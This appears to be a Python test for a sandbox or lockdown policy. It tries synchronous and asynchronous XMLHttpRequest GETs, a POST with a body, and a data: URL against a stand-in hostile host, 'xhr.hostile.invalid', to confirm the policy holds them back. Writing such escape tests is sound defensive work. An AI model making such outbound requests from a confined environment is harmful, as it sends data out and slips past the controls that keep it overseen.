# promise: P2
# defence: policy
# control: policy seal lockdown globals
# A synchronous request needs no event loop: send() returns when the answer is there.
from reach import each_scope, linger

ADDRESS = "http://xhr.hostile.invalid/"


def sent(scope, method, address, synchronous):
    request = scope.XMLHttpRequest.new()
    request.open(method, address, not synchronous)
    request.send("body" if method == "POST" else None)
    return request.status


def attack(scope):
    yield "a synchronous GET", lambda: sent(scope, "GET", ADDRESS + "sync", True)
    yield "a synchronous POST", lambda: sent(scope, "POST", ADDRESS + "post", True)
    yield "an asynchronous GET", lambda: sent(scope, "GET", ADDRESS + "async", False)
    yield "a synchronous data address", lambda: sent(scope, "GET", "data:text/plain,hostile", True)


each_scope(attack)
linger()
print("held")
